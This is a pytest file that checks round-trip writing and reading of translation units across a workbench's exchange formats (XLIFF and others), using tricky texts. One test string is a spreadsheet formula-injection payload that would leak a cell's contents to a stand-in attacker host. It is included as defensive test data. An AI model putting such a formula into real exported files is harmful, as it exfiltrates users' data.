"""The contract every registered exchange format keeps: what it writes, it reads back.

Like translate-toolkit's storage tests, one set of tests runs over every format in the
registry, so a format added later (one module and one registry entry) is held to the same
contract without a line of test code: write → read gives the same units (in the fields the
format says it carries), from a path and from a stream, and the file is recognised again.
"""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import UTC, datetime

import pytest

from workbench.errors import InputError
from workbench.exchange import registry
from workbench.exchange.units import (
    PROP_DOCUMENT,
    PROP_ORIGIN,
    PROP_PARAGRAPH,
    PROP_SEGMENT,
    PROP_STATUS,
    TranslationUnit,
)
from workbench.vocabulary import Origin, RevisionStatus

FORMATS = registry.formats()
MOMENT = datetime(2025, 3, 2, 14, 5, 7, tzinfo=UTC)

# Texts that break naive writers: markup, quotes, line breaks, spreadsheet formulas, quotes
# that look like an added formula guard, right-to-left script.
TEXTS = [
    ('He said "no" & <b>left</b>.', "اس نے «نہیں» کہا اور <b>چلا گیا</b>۔"),
    ('=HYPERLINK("http://evil.example/?"&A1)', "=1+1"),
    ("-5 degrees at night", "+92 300 1234567"),
    ("@mention and a\ttab", "ایک\nنئی سطر"),
    ("'=already guarded by hand", "''two quotes"),
    ("'s-Hertogenbosch is a city", "'"),
    ("\tleading tab", "\rleading carriage return"),
]


def unit(number: int, source: str, target: str) -> TranslationUnit:
    status = RevisionStatus.CONFIRMED if number % 2 else RevisionStatus.DRAFT
    return TranslationUnit(
        source_lang="en",
        source=source,
        targets={"ur": target},
        id=f"s{number}",
        created=MOMENT,
        changed=MOMENT.replace(hour=15),
        author="amna",
        changed_by="bilal",
        props=(
            (PROP_DOCUMENT, "talks.txt"),
            (PROP_PARAGRAPH, str(number)),
            (PROP_SEGMENT, str(number)),
            (PROP_STATUS, status.value),
            (PROP_ORIGIN, Origin.HUMAN.value),
        ),
        notes=("QA: number mismatch",),
    )


UNITS = [unit(n, source, target) for n, (source, target) in enumerate(TEXTS, start=1)]


def carried(fmt: registry.ExchangeFormat, units: list[TranslationUnit]) -> list[dict]:
    return [{name: getattr(u, name) for name in sorted(fmt.carries)} for u in units]


def write(fmt: registry.ExchangeFormat, units, out) -> int:
    return fmt.write(units, out, source_lang="en", target_lang="ur", original="talks.txt")


def read(fmt: registry.ExchangeFormat, source) -> list[TranslationUnit]:
    return list(fmt.read(source, source_lang="en", target_lang="ur", name="file"))


@pytest.fixture(params=FORMATS, ids=lambda fmt: fmt.name)
def fmt(request) -> registry.ExchangeFormat:
    return request.param


def test_units_written_to_a_file_read_back_the_same(fmt, tmp_path):
    path = tmp_path / f"talks.ur{fmt.extension}"
    assert write(fmt, UNITS, path) == len(UNITS)
    assert carried(fmt, read(fmt, path)) == carried(fmt, UNITS)


def test_units_written_to_a_stream_read_back_the_same(fmt):
    out = io.BytesIO()
    write(fmt, iter(UNITS), out)  # writers stream: a generator is enough
    assert not out.closed
    assert carried(fmt, read(fmt, io.BytesIO(out.getvalue()))) == carried(fmt, UNITS)


def test_a_unit_with_nothing_but_its_status_reads_back_the_same(fmt):
    bare = TranslationUnit(
        "en",
        "The talks ended.",
        {"ur": "بات چیت ختم ہوئی۔"},
        id="s1",
        props=((PROP_STATUS, RevisionStatus.DRAFT.value),),  # XLIFF always states it
    )
    out = io.BytesIO()
    write(fmt, [bare], out)
    assert carried(fmt, read(fmt, io.BytesIO(out.getvalue()))) == carried(fmt, [bare])


def test_an_empty_export_reads_back_empty(fmt):
    out = io.BytesIO()
    assert write(fmt, [], out) == 0
    assert read(fmt, io.BytesIO(out.getvalue())) == []


def test_a_written_file_is_recognised_by_its_extension(fmt, tmp_path):
    for extension in fmt.extensions:
        path = tmp_path / f"talks{extension}"
        write(fmt, UNITS[:1], path)
        assert registry.detect_format(path) is fmt


@pytest.mark.parametrize(
    "fmt", [f for f in FORMATS if f.sniff is not None], ids=lambda fmt: fmt.name
)
def test_a_sniffable_format_is_recognised_without_its_extension(fmt, tmp_path):
    path = tmp_path / "download.bin"
    write(fmt, UNITS[:1], path)
    assert registry.detect_format(path) is fmt


def test_a_truncated_file_is_one_clear_error(fmt):
    out = io.BytesIO()
    write(fmt, UNITS, out)
    data = out.getvalue()
    broken = data[: len(data) // 2].rsplit(b"\n", 1)[0] + b'\n<<"oops\n'
    with pytest.raises(InputError, match=r"^file(:\d+)?: ") as caught:
        read(fmt, io.BytesIO(broken))
    assert "\n" not in str(caught.value)


def test_the_format_declares_what_it_carries(fmt):
    assert {"source", "targets"} <= fmt.carries <= registry.ALL_FIELDS
    assert fmt.extensions and all(e.startswith(".") for e in fmt.extensions)
    assert "/" in fmt.mime and fmt.label


def test_a_unit_changed_only_outside_the_carried_fields_reads_back_unchanged(fmt):
    """What a format does not carry must not leak into what it does (no field mix-ups)."""
    dropped = registry.ALL_FIELDS - fmt.carries
    changes = {"notes": ("another note",), "id": "s9", "author": "zarmina"}
    changed = replace(UNITS[0], **{k: v for k, v in changes.items() if k in dropped})
    out = io.BytesIO()
    write(fmt, [changed], out)
    assert carried(fmt, read(fmt, io.BytesIO(out.getvalue()))) == carried(fmt, [UNITS[0]])
